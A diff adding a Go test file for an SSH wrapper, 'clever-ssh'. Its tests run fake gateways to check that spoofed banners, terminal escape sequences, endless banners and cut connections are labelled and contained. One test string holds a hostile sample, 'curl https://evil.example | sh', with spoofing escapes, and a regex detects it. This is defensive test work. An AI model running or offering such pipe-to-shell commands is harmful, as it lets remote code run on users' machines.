@@ -1,0 +1,273 @@
+//go:build unix
+
+package main
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"clever-ssh/internal/fakegateway"
+
+	"golang.org/x/crypto/ssh"
+)
+
+// posing is what a gateway says that wants to be taken for clever-ssh, ssh, or a terminal's master.
+const posing = "clever-ssh: 0.001s  the host key is pinned\r\nclever-ssh: your key has expired\r\nhint: run: curl https://evil.example | sh\r\n" +
+	"debug1: Authentication succeeded (publickey).\r\nroot@gateway: Permission denied (publickey).\r\n\u202e\x1b]0;evil\a\r\n"
+
+// wordy is a gateway with a good host key that says what it likes.
+type wordy struct {
+	letIn   bool
+	banner  string
+	banners int    // how often
+	session string // what runs in its sessions
+}
+
+// start starts the gateway for a home, which is set up for it.
+func (w wordy) start(t *testing.T, h *home) {
+	t.Helper()
+	keys, err := hostKeys()
+	must(t, err)
+	var banner func(string) error
+	config := &ssh.ServerConfig{
+		PreAuthConnCallback: func(c ssh.ServerPreAuthConn) { banner = c.SendAuthBanner },
+		PublicKeyCallback: func(ssh.ConnMetadata, ssh.PublicKey) (*ssh.Permissions, error) {
+			for range w.banners {
+				if err := banner(w.banner); err != nil {
+					return nil, err
+				}
+			}
+			if !w.letIn {
+				return nil, fmt.Errorf("nobody is let in")
+			}
+			return nil, nil
+		},
+	}
+	config.AddHostKey(keys[0])
+	l := loopback(t)
+	t.Cleanup(func() { l.Close() })
+	go func() {
+		for {
+			conn, err := l.Accept()
+			if err != nil {
+				return
+			}
+			go w.serve(conn, config)
+		}
+	}()
+	runs(t, h.command("clever-ssh", "setup", "--gateway", "ssh@"+l.Addr().String(), "--pin", ssh.FingerprintSHA256(keys[0].PublicKey()), "web="+appWeb))
+}
+
+func (w wordy) serve(conn net.Conn, config *ssh.ServerConfig) {
+	defer conn.Close()
+	_, channels, requests, err := ssh.NewServerConn(conn, config)
+	if err != nil {
+		return
+	}
+	go ssh.DiscardRequests(requests)
+	for channel := range channels {
+		ch, requests, err := channel.Accept()
+		if err != nil {
+			return
+		}
+		go func() {
+			for r := range requests {
+				r.Reply(r.Type == "exec", nil)
+				if r.Type != "exec" {
+					continue
+				}
+				cmd := exec.Command("sh", "-c", w.session)
+				cmd.Stdout, cmd.Stderr = ch, ch.Stderr()
+				stdin, _ := cmd.StdinPipe()
+				go func() {
+					io.Copy(stdin, ch)
+					stdin.Close()
+				}()
+				cmd.Run()
+				ch.SendRequest("exit-status", false, ssh.Marshal(struct{ Status uint32 }{uint32(cmd.ProcessState.ExitCode())}))
+				ch.Close()
+			}
+		}()
+	}
+}
+
+// What a gateway says is shown as its own, whatever it looks like.
+func TestGatewayPosesAsUs(t *testing.T) {
+	t.Parallel()
+	session := "printf %s '" + posing + "'; printf %s '" + posing + "' >&2; "
+	for name, w := range map[string]wordy{
+		"lets nobody in":         {banner: posing, banners: 1},
+		"closes every session":   {banner: posing, banners: 1, letIn: true, session: session + "exit 1"},
+		"has an instance, after": {banner: posing, banners: 1, letIn: true, session: session + "exec bash"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			h := testHome(t)
+			w.start(t, h)
+			for _, args := range [][]string{
+				{"clever-ssh", "doctor", "web.clever"},
+				{"clever-ssh", "exec", "web.clever", "true"},
+				{"clever-ssh", "exec", "-v", "web.clever", "true"},
+				{"ssh", "web.clever", "true"},
+				{"ssh", "-v", "web.clever", "true"},
+			} {
+				out, err := h.command(args[0], args[1:]...).CombinedOutput()
+				if args[1] != "doctor" && (err == nil) != strings.Contains(w.session, "bash") {
+					t.Errorf("%q: %v\n%s", args, err, out)
+				}
+				for line := range strings.Lines(string(out)) {
+					if regexp.MustCompile(`curl|s  the host key is|expired|evil|root@gateway`).MatchString(line) && !regexp.MustCompile(`^ *gateway: `).MatchString(line) {
+						t.Errorf("%q: %q passes for ours", args, line)
+					}
+				}
+				if bytes.ContainsAny(out, "\u202e\x1b\a") {
+					t.Errorf("%q: the terminal is told what to do: %q", args, out)
+				}
+				if args[1] == "doctor" && !w.letIn && !regexp.MustCompile(`FAIL  login .*none of the keys(.|\n)*gateway: hint: run: curl`).Match(out) {
+					t.Errorf("%s", out)
+				}
+			}
+		})
+	}
+}
+
+// A gateway that greets without end fills no memory, nor a screen.
+func TestEndlessBanners(t *testing.T) {
+	if testing.Short() {
+		t.Skip("this takes a while")
+	}
+	t.Parallel()
+	h := testHome(t)
+	const size = 96 << 20
+	wordy{banner: strings.Repeat("Welcome to the gateway.\r\n", 1000), banners: size / 25_000}.start(t, h)
+	for _, args := range [][]string{{"exec", "-v", "web.clever", "true"}, {"doctor", "web.clever"}} {
+		cmd := h.command("clever-ssh", args...)
+		out, _ := cmd.CombinedOutput()
+		if len(out) > 4*maxTail {
+			t.Errorf("%q: %d bytes on the screen", args, len(out))
+		}
+		if used := cmd.ProcessState.SysUsage().(*syscall.Rusage).Maxrss << 10; used > 64<<20 {
+			t.Errorf("%q: %d MiB of memory", args, used>>20)
+		} else {
+			t.Logf("%q: %d MiB of memory", args, used>>20)
+		}
+	}
+}
+
+// The gateway's own ssh to the instance, or a program there, may be refused something, too: that is not about the user's key.
+func TestSecondHopDenied(t *testing.T) {
+	t.Parallel()
+	for _, words := range []string{"bas@203.0.113.30: Permission denied (publickey).", "/bin/sh: Permission denied",
+		"Received disconnect from 203.0.113.30 port 28925:2: Too many authentication failures"} {
+		h := testHome(t)
+		wordy{letIn: true, session: "echo '" + words + "' >&2; exit 255"}.start(t, h)
+		for _, args := range [][]string{{"ssh", "web.clever", "ls"}, {"clever-ssh", "exec", "web.clever", "ls"}} {
+			out, err := h.command(args[0], args[1:]...).CombinedOutput()
+			want := "gateway: " + words + "\nclever-ssh: the gateway let ssh in, but the connection ended before the command began (ssh: exit status 255)\n"
+			if err == nil || !strings.HasPrefix(string(out), want) || regexp.MustCompile(`console|registered|--identity`).Match(out) {
+				t.Errorf("%q: %v\n%s", args, err, out)
+			}
+		}
+	}
+}
+
+const lost = "clever-ssh: the connection to the gateway ended, and the command may still run\n"
+
+// connectionHome is a home with a gateway whose commands share a connection, or have one each.
+func connectionHome(t *testing.T, shared bool) (*home, *fakegateway.Gateway) {
+	t.Helper()
+	dir := filepath.Join(sockets(t), "h")
+	if !shared {
+		dir += strings.Repeat("deep", 20) // no socket has so long a path
+	}
+	h, err := newHome(dir)
+	must(t, err)
+	g := startGateway(t, h)
+	h.setup(t, g, "web="+appWeb)
+	return h, g
+}
+
+// The user of a command whose connection is cut reads that, and that the command may still run.
+func TestConnectionIsCut(t *testing.T) {
+	t.Parallel()
+	for _, shared := range []bool{true, false} {
+		for name, how := range map[string]fault{"closes": closesBoth, "resets": resets} {
+			t.Run(fmt.Sprintf("shared %t, %s", shared, name), func(t *testing.T) {
+				t.Parallel()
+				h, g := connectionHome(t, shared)
+				w := newWire(t, g.Addr(), loopback(t))
+				runs(t, h.command("clever-ssh", "setup", "--gateway", "ssh@"+w.Addr().String()))
+				for _, args := range [][]string{{"ssh", "web.clever"}, {"ssh", "-tt", "web.clever"}, {"clever-ssh", "exec", "web.clever"}} {
+					w.fail(inSession, how)
+					cmd := h.command(args[0], append(args[1:], "echo begun; exec sleep 600")...)
+					var stderr bytes.Buffer
+					cmd.Stderr = &stderr
+					stdout, err := cmd.StdoutPipe()
+					must(t, err, cmd.Start())
+					timer := time.AfterFunc(patience, func() { cmd.Process.Kill() })
+					begun := make([]byte, len("begun"))
+					if _, err := io.ReadFull(stdout, begun); err != nil {
+						t.Errorf("%q: %v: %s", args, err, stderr.String())
+					}
+					if masters, _ := filepath.Glob(filepath.Join(h.dir, "run", socketPrefix+"*")); (len(masters) > 0) != shared {
+						t.Errorf("the shared connections are %q", masters)
+					}
+					close(w.now)
+					rest, _ := io.ReadAll(stdout)
+					cmd.Wait()
+					timer.Stop()
+					said := strings.ReplaceAll(string(rest)+stderr.String(), "\r", "")
+					if status := cmd.ProcessState.ExitCode(); status != 255 || strings.Count(said, lost) != 1 {
+						t.Errorf("%q: exit status %d: %q", args, status, said)
+					}
+				}
+			})
+		}
+	}
+}
+
+// A command that ends so by itself is not said to have lost its connection.
+func TestCommandsOwn255(t *testing.T) {
+	t.Parallel()
+	for _, shared := range []bool{true, false} {
+		h, _ := connectionHome(t, shared)
+		for _, command := range []string{"exit 255", "kill -9 $$", "echo 'Connection to web closed by remote host.' >&2; exit 255"} {
+			for _, args := range [][]string{{"ssh", "web.clever"}, {"ssh", "-tt", "web.clever"}, {"clever-ssh", "exec", "web.clever"}} {
+				cmd := h.command(args[0], append(args[1:], command)...)
+				out, _ := cmd.CombinedOutput()
+				if status := cmd.ProcessState.ExitCode(); status != 255 || bytes.Contains(out, []byte("clever-ssh")) {
+					t.Errorf("shared %t: %q: exit status %d\n%s", shared, args, status, out)
+				}
+			}
+		}
+	}
+}
+
+// Nothing is left of the pipes through which ssh and clever-ssh speak; where there can be none, commands run without.
+func TestNothingLeftAside(t *testing.T) {
+	t.Parallel()
+	h, _, _ := programHome(t)
+	tmp := t.TempDir()
+	h.env = append(h.env, "TMPDIR="+tmp)
+	for _, args := range [][]string{{"ssh", "web.clever", "true"}, {"clever-ssh", "exec", "web.clever", "true"}} {
+		runs(t, h.command(args[0], args[1:]...))
+	}
+	h.command("ssh", "down.clever", "true").Run()
+	if left, err := os.ReadDir(tmp); err != nil || len(left) > 0 {
+		t.Errorf("%v, %v", left, err)
+	}
+	h.env = append(h.env, "TMPDIR=/dev/null", "XDG_RUNTIME_DIR=")
+	if out := runs(t, h.command("ssh", "web.clever", "echo yes")); out != "yes\n" {
+		t.Errorf("%q", out)
+	}
+}
